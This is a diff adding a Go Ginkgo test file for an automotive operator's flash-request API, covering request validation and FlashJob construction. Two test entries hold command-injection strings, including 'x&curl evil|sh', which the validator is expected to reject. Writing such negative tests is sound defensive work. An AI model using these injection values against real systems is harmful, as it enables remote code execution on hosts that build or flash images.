@@ -0,0 +1,82 @@
+package buildapi
+
+import (
+	"time"
+
+	. "github.com/onsi/ginkgo/v2" //nolint:revive // Dot import is standard for Ginkgo
+	. "github.com/onsi/gomega"    //nolint:revive // Dot import is standard for Gomega
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/utils/ptr"
+
+	automotivev1alpha1 "github.com/centos-automotive-suite/automotive-dev-operator/api/v1alpha1"
+)
+
+var _ = Describe("Flash requests", func() {
+	build := &automotivev1alpha1.ImageBuild{
+		ObjectMeta: metav1.ObjectMeta{Name: "qm-minimal", Namespace: "team-a"},
+		Spec:       automotivev1alpha1.ImageBuildSpec{Target: "j784s4evm"},
+		Status:     automotivev1alpha1.ImageBuildStatus{Phase: phaseCompleted},
+	}
+
+	DescribeTable("validating overrides",
+		func(req FlashRequest, valid bool) {
+			err := validateFlashRequest(&req)
+			if valid {
+				Expect(err).NotTo(HaveOccurred())
+			} else {
+				Expect(err).To(HaveOccurred())
+			}
+		},
+		Entry("defaults", FlashRequest{}, true),
+		Entry("all overrides", FlashRequest{
+			ExporterSelector:     "lab in (lab-1),rack=3",
+			ImageRef:             "quay.io/team-a/qm-minimal:v1",
+			LeaseDurationMinutes: 60,
+		}, true),
+		Entry("malformed selector", FlashRequest{ExporterSelector: "lab in (lab-1"}, false),
+		Entry("image reference with shell characters", FlashRequest{ImageRef: "quay.io/a;reboot"}, false),
+		Entry("image reference with a background operator", FlashRequest{ImageRef: "x&curl evil|sh"}, false),
+		Entry("image reference with a query string", FlashRequest{ImageRef: "https://a/b?c=%20"}, false),
+		Entry("negative lease", FlashRequest{LeaseDurationMinutes: -1}, false),
+		Entry("lease too long", FlashRequest{LeaseDurationMinutes: maxFlashLeaseMinutes + 1}, false),
+	)
+
+	It("should create a FlashJob for the build on behalf of the requester", func() {
+		job := newFlashJob(build, &FlashRequest{ExporterSelector: "lab=lab-1", LeaseDurationMinutes: 45},
+			"jane", "req-123")
+
+		Expect(job.GenerateName).To(Equal("qm-minimal-flash-"))
+		Expect(job.Namespace).To(Equal("team-a"))
+		Expect(job.Annotations).To(HaveKeyWithValue(requestedByAnnotation, "jane"))
+		Expect(job.Annotations).To(HaveKeyWithValue(automotivev1alpha1.CorrelationIDAnnotation, "req-123"))
+		Expect(job.Spec.ImageBuildName).To(Equal("qm-minimal"))
+		Expect(job.Spec.ExporterSelector).To(Equal("lab=lab-1"))
+		Expect(job.Spec.LeaseDuration.Duration).To(Equal(45 * time.Minute))
+
+		Expect(newFlashJob(build, &FlashRequest{}, "jane", "").Spec.LeaseDuration).To(BeNil())
+	})
+
+	It("should describe FlashJobs", func() {
+		job := newFlashJob(build, &FlashRequest{}, "jane", "")
+		job.Name = "qm-minimal-flash-x7k2p"
+		Expect(newFlashJobResponse(job).Phase).To(Equal("Pending"))
+
+		start := metav1.NewTime(time.Date(2026, 10, 1, 12, 0, 0, 0, time.UTC))
+		job.Status = automotivev1alpha1.FlashJobStatus{
+			Phase:        automotivev1alpha1.FlashJobPhaseFailed,
+			Message:      "Flash failed with exit code 2",
+			ExporterName: "lab-1-board-3",
+			ExitCode:     ptr.To(int32(2)),
+			StartTime:    &start,
+		}
+		resp := newFlashJobResponse(job)
+		Expect(resp.Name).To(Equal("qm-minimal-flash-x7k2p"))
+		Expect(resp.BuildName).To(Equal("qm-minimal"))
+		Expect(resp.RequestedBy).To(Equal("jane"))
+		Expect(resp.Phase).To(Equal("Failed"))
+		Expect(resp.ExporterName).To(Equal("lab-1-board-3"))
+		Expect(*resp.ExitCode).To(Equal(int32(2)))
+		Expect(resp.StartTime).To(Equal("2026-10-01T12:00:00Z"))
+		Expect(resp.CompletionTime).To(BeEmpty())
+	})
+})